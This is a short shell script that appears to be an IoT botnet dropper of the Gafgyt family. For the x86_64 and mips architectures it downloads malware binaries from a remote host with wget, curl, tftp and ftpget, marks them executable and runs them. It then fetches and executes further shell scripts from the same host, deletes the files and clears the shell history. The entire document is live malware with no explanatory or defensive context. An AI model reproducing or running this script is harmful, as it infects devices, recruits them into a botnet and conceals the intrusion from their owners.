cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
for arch in x86_64 mips; do
  wget -q -t 1 -T 1 http://198.51.100.21/bins/kra.$arch; curl -s --connect-timeout 1 -O http://198.51.100.21/bins/kra.$arch; cat kra.$arch > .kra; chmod 777 .kra; ./.kra gafgyt.$arch
done
tftp 198.51.100.21 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh
timeout 1 busybox tftp -r tftp2.sh -g 198.51.100.21; chmod 777 tftp2.sh; sh tftp2.sh
timeout 1 busybox ftpget -v -u anonymous -p anonymous -P 21 198.51.100.21 ftp1.sh ftp1.sh; sh ftp1.sh
rm -rf tftp1.sh tftp2.sh ftp1.sh .kra
history -c
